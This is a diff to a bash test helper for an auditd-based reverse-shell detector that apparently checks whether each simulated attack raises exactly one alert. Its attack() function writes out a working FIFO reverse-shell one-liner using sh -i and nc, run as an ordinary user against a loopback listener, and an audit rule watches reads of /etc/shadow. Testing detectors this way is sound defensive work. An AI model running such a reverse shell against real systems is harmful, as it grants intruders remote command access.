@@ -1,6 +1,6 @@
 #!/bin/bash
 # SPDX-License-Identifier: Apache-2.0
-# What the scenes check with. A check prints one line: ok or FAILED.
+# What the scenes check with. A check prints one line: ok NAME, or FAILED NAME:: WHY.
 
 BY_HAND='-w /etc/shadow -p r -k by-hand'
 
@@ -10,7 +10,7 @@ check() {  # NAME COMMAND...
     if said=$("$@" 2>&1); then
         echo "ok $name"
     else
-        echo "FAILED $name: $(tail -n 4 <<<"$said" | tr '\n' '|')"
+        echo "FAILED $name:: $(tail -n 4 <<<"$said" | tr '\n' '|')"
     fi
 }
 
@@ -47,22 +47,37 @@ load_by_hand() { by_hand_is_loaded || auditctl $BY_HAND 2>/dev/null; }  # auditc
 
 # --- an attack ---
 
-# A reverse shell over a FIFO, by an ordinary user; the listener types one command into it. Each has a port of its own.
-next_port() { port=$((port + 1)); }
+next_port() { port=$((port + 1)); }  # each attack has one of its own
 
-attack() {
-    { sleep 1; echo 'id -un'; sleep 2; } | timeout 30 nc -N -l 127.0.0.1 $port >/run/heard &
-    await 5 eval "ss -ltn | grep -q :$port" || return
-    runuser -u alice -- sh -c "cd /tmp; rm -f f; mkfifo f; cat f | sh -i 2>&1 | timeout 20 nc 127.0.0.1 $port >f" >/dev/null 2>&1
-    wait $!
-    grep -q alice /run/heard || { cat /run/heard; echo 'nobody answered'; return 1; }
+is_listening() { ss -ltn | grep -q "127.0.0.1:$port "; }
+
+shell_answers() { grep -qs alice /run/heard; }
+
+# A reverse shell over a FIFO, by an ordinary user, while the command runs.
+attack() {  # COMMAND...
+    local typed listener status=1
+    exec {typed}> >(exec timeout 600 nc -N -l 127.0.0.1 $port >/run/heard 2>/dev/null)
+    listener=$!
+    await 60 is_listening
+    runuser -u alice -- sh -c "cd /tmp; rm -f f; mkfifo f; cat f | sh -i 2>&1 | timeout 600 nc 127.0.0.1 $port >f" >/dev/null 2>&1 {typed}>&- &
+    echo 'id -un' >&$typed
+    if await 60 shell_answers; then
+        "$@" && status=0
+    else
+        echo "nobody answered: $(cat /run/heard)"
+    fi
+    exec {typed}>&-
+    wait $listener
+    return $status
 }
 
-alerts() { journalctl -q -t pipehound PIPEHOUND_REMOTE_PORT=$port "$@"; }
+alerts() { journalctl -q -b -t pipehound PIPEHOUND_REMOTE_PORT=$port "$@"; }
 
 is_told() { alerts -o cat | grep -q .; }
 
-attack_is_told() { attack && { await 20 is_told || { journalctl -q -t pipehound -n 5 -o cat; return 1; }; }; }
+last_words() { journalctl -q -b -t pipehound -n 5 -o cat; }
+
+attack_is_told() { attack await 60 is_told || { last_words; return 1; }; }
 
 # One incident, and no level of it twice.
 is_told_once() {
@@ -78,7 +93,7 @@ field_is() { grep -qE "^ +$1=$2" <<<"$fields" || { grep "$1" <<<"$fields"; retur
 
 all_is_well() {  # AFTER-WHAT
     check "$1: auditd is active" systemctl -q is-active auditd
-    check "$1: one plugin runs" await 20 plugin_runs_once
+    check "$1: one plugin runs" await 60 plugin_runs_once
     check "$1: the rules are loaded" equal "$(kernel_rules)" "$(file_rules)"
     next_port
     check "$1: an attack is told" attack_is_told
@@ -86,4 +101,9 @@ all_is_well() {  # AFTER-WHAT
     check "$1: audit is on" equal "$(auditctl -s | grep '^enabled')" 'enabled 1'
     check "$1: the kernel lost no record" equal "$(auditctl -s | grep '^lost')" 'lost 0'
     check "$1: no alert waits" test ! -e /var/lib/pipehound/spool.jsonl
+    check "$1: nothing is called blindness" nobody_calls_it_blindness
+}
+
+nobody_calls_it_blindness() {  # [BOOT]
+    equal "$(journalctl -q -b "${1-0}" -t pipehound PIPEHOUND_KIND=blindness -o cat)" ''
 }
